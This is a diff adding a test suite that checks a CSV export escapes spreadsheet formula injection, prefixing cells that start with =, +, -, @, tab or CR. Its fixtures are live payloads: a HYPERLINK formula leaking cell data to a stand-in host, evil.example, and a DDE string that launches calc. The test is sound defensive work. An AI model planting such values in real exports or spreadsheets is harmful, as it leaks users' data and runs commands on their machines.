@@ -148,6 +148,45 @@ describe('exportResults', () => {
   });
 });
 
+describe('CSV export against formula injection', () => {
+  // Cells a spreadsheet would run as formulas. Ids and product ids come from the shop's reviews.
+  const hostile = [
+    makeResult('=HYPERLINK("http://evil.example/?leak="&A1,"click me")', { productId: '@SUM(A1)', processedAt: '2024-05-02T00:00:01.000Z' }),
+    makeResult('+1+cmd|" /C calc"!A0', { productId: '-2+3', processedAt: '2024-05-02T00:00:02.000Z' }),
+    makeResult('\tTAB=1', { productId: '\rCR=1', processedAt: '2024-05-02T00:00:03.000Z' }),
+    makeResult('\uff1dFULLWIDTH()', { productId: 'plain', processedAt: '2024-05-02T00:00:04.000Z' }),
+  ];
+  let formulaDb: SqlClient;
+
+  beforeAll(async () => {
+    formulaDb = await createPgliteClient(path.join(dir, 'formula-pglite'));
+    await migrate(formulaDb);
+    await formulaDb.transaction((tx) => upsertResults(tx, hostile));
+  });
+  afterAll(async () => {
+    await formulaDb?.close();
+  });
+
+  it("prefixes every cell that starts with = + - @ tab or CR with ' (OWASP), and leaves other cells alone", async () => {
+    const out = memorySink();
+    expect(await exportResults({ db: formulaDb, format: 'csv', out })).toBe(hostile.length);
+    const records = parse(out.text(), { columns: true }) as Record<(typeof CSV_COLUMNS)[number], string>[];
+    expect(records.map((r) => [r.review_id, r.product_id])).toEqual([
+      [`'=HYPERLINK("http://evil.example/?leak="&A1,"click me")`, `'@SUM(A1)`],
+      [`'+1+cmd|" /C calc"!A0`, `'-2+3`],
+      [`'\tTAB=1`, `'\rCR=1`],
+      [`'\uff1dFULLWIDTH()`, 'plain'],
+    ]);
+    // Numbers, JSON and timestamps are untouched.
+    expect(records.map((r) => Number(r.score))).toEqual(hostile.map((r) => r.score));
+    expect(records.every((r) => r.scores.startsWith('{') && !r.processed_at.startsWith("'"))).toBe(true);
+    // JSONL is data, not a spreadsheet: exported as stored.
+    const jsonl = memorySink();
+    await exportResults({ db: formulaDb, format: 'jsonl', out: jsonl });
+    expect(parseJsonl(jsonl.text()).map((r) => r.reviewId)).toEqual(hostile.map((r) => r.reviewId));
+  });
+});
+
 describe('sentiment-fleet export (runExportCommand on a PGlite data dir)', () => {
   const small = data.filter((r) => r.productId === 'p-3').slice(0, 30);
   const io = (env: Record<string, string>) => {
